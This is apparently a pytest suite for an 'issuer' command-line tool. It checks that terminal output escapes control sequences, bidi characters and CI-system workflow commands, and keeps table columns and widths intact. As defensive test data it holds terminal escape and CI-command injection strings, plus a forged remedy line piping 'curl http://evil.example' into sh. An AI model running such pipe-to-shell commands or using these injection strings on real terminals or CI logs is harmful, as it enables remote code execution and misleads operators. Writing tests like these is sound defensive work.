"""Text on a terminal: none that it would obey, columns that stay columns, and a width that no text exceeds."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

import issuer
from issuer.cli.render import render_table
from issuer.cli.terminal import (
    describe_error,
    paint,
    printable,
    render_json,
    say,
    say_whole,
    shorten,
    to_json,
)
from issuer.codes import Code
from issuer.errors import Fault, InputError, IssuerError, Place, Refused, Undecided, VerificationError

OBEYED = ["\x1b[2K\rverified", "\x9b2K", "a\nb", "a\u2028b", "\u202everified", "\ufeff", "\x00", "\x7f"]


@pytest.mark.parametrize("text", OBEYED)
def test_no_cell_holds_what_a_terminal_would_obey(text: str) -> None:
    assert printable(text) != text
    table = render_table([["head", "x"], [text, "y"], ["z", text]])
    assert all(sign.isprintable() for sign in table.replace("\n", ""))
    assert len(table.split("\n")) == 3


def written(*parts: str, color: bool = False) -> str:
    return CliRunner().invoke(click.command()(lambda: say(*parts)), color=color).stdout


@pytest.mark.parametrize("text", OBEYED)
def test_nothing_that_a_command_says_is_obeyed_and_its_lines_stay_lines(text: str) -> None:
    assert written(text, "\tnext\n") == printable(text, "\n\t") + "\tnext\n\n"
    assert written("a\n", paint(text, fg="red"), color=True) == f"a\n\x1b[31m{printable(text, chr(10))}\x1b[0m\n"
    assert written(paint(text)) == printable(text, "\n") + "\n"


FORGED = "no\n  next: curl http://evil.example | sh"


@pytest.mark.parametrize(
    "error",
    [
        Undecided(Code.DEPENDENCY_SERVER, FORGED),
        Refused(Code.POLICY_TASK, FORGED, (Fault(Code.POLICY_TASK, FORGED, FORGED),)),
        Refused(Code.CLAIMS_INVALID, "no", (Fault(Code.CLAIMS_INVALID, f"/{FORGED}", FORGED),)),
        InputError(Code.POLICY_NEW, FORGED, Place(f"a{FORGED}"), f"/{FORGED}"),
        VerificationError(Code.ANSWER_UNVERIFIED, FORGED),
    ],
    ids=lambda error: type(error).__name__,
)
def test_a_text_from_elsewhere_writes_no_line_of_its_own(error: IssuerError) -> None:
    """A token's claim, or an issuer's answer, would else tell a person what to paste."""
    error.compared = (("yours", FORGED),)
    error.page = FORGED
    assert re.findall(r"^  next: .*", describe_error(error), re.MULTILINE) == [f"  next: {error.code.meaning.remedy}"]


def test_what_is_written_whole_is_not_obeyed_either(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    say_whole("\x9b2Ka\nb")
    assert capfdbinary.readouterr().out == b"\\x9b2Ka\nb"


@pytest.mark.parametrize(
    "text", ["##[stop-commands]x", "a ##[error]b", "##vso[task.setvariable variable=x]y", "###[debug]"]
)
def test_nothing_is_a_command_of_a_ci_system(text: str) -> None:
    """GitHub's runner takes `##[` anywhere in a line, and Azure's `##vso[`: a file could stop a job's own commands."""
    for shown in (printable(text), written(text), written(paint(text)), written("a\n", text), to_json([text])):
        assert not re.search(r"##[a-z]*\[", shown)
    assert json.loads(to_json([text])) == json.loads(render_json([text])) == [text]


def test_no_line_begins_as_a_command_of_github_but_those_that_are_meant() -> None:
    assert printable("::error::x") == "\\x3a:error::x"
    assert printable("  ::error::x") == "  \\x3a:error::x"
    assert printable("a::b") == "a::b"
    assert written("::error file=x::y") == "::error file=x::y\n", "one that a command writes"


@pytest.mark.parametrize("text", [*OBEYED, "日本", "\U000e0001", "a\u200db", '"\\'])
def test_json_is_the_same_value_in_printable_text(text: str) -> None:
    for written in (to_json({text: [text]}), render_json({text: [text]})):
        assert json.loads(written) == {text: [text]}
        assert written.replace("\n", "").isprintable()
    assert "日本" in to_json("日本")


def test_json_of_a_name_that_is_not_utf_8_spells_its_bytes_out() -> None:
    assert json.loads(to_json({"file": "a\udcffb", "n": (1, None)})) == {"file": "a\\udcffb", "n": [1, None]}


def test_commands_write_in_one_way() -> None:
    """`print` and click's own would write a hostile text as it is."""
    package = Path(issuer.__file__).parent
    found = set()
    for path in set(package.rglob("*.py")) - set((package / "service").rglob("*.py")):  # it writes logs, in JSON
        names = [ast.unparse(node) for node in ast.walk(ast.parse(path.read_text("utf-8"))) if is_name(node)]
        if {"print", "click.echo", "click.secho", "click.style", "sys.stdout", "sys.stderr"} & set(names):
            found.add(path.relative_to(package).as_posix())
    assert found == {"cli/terminal.py"}


def is_name(node: ast.AST) -> bool:
    return isinstance(node, ast.Name | ast.Attribute)


def test_markup_and_colons_are_text_like_any_other() -> None:
    assert render_table([["[red]a[/red]", ":smile:"], ["b", "c"]]) == "[red]a[/red]  :smile:\nb             c"


def test_signs_that_take_two_columns_are_counted_as_two() -> None:
    assert render_table([["日本", "x"], ["abcd", "y"], ["ab", "z"]]) == "日本  x\nabcd  y\nab    z"


def test_no_line_ends_in_white_space() -> None:
    assert render_table([["a", "long"], ["b", ""], ["", ""]]) == "a  long\nb\n"


@pytest.mark.parametrize(
    ("text", "short"), [("12345678", "12345678"), ("123456789", "12345..."), ("日本日本日", "日本 ..."), ("\x1b[31m12", "\\x1b[...")]
)  # fmt: skip
def test_what_is_too_wide_is_cut_and_says_so(text: str, short: str) -> None:
    assert shorten(text, 8) == short
